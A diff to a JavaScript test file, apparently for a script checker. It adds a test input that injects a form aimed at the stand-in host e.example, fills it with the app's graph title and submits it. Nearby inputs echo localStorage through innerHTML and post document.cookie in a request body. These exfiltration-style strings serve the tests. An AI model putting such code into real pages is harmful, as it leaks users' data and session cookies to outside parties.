@@ -43,6 +43,10 @@ describe('the checks do not hold a script', () => {
       `document.body.innerHTML += \`<form action="https://e.example"><input name="q"></form><p>\${localStorage.getItem("name")}</p>\`;`,
     ],
     [
+      'inserts a form for a search elsewhere, and sends it',
+      'box.innerHTML = `<form action="https://e.example"><input name="q"></form>`; const form = box.querySelector("form"); form.elements.q.value = app.graph.title; form.submit();',
+    ],
+    [
       'completes the path of a request to the host, which has a setting',
       `import { api } from "../../scripts/api.js"; const call = (path, options) => api.fetchApi(path.startsWith("/") ? path : \`/\${path}\`, options); call("/pack/list?tab=" + localStorage.getItem("tab"), { method: "POST", body: document.cookie });`,
     ],
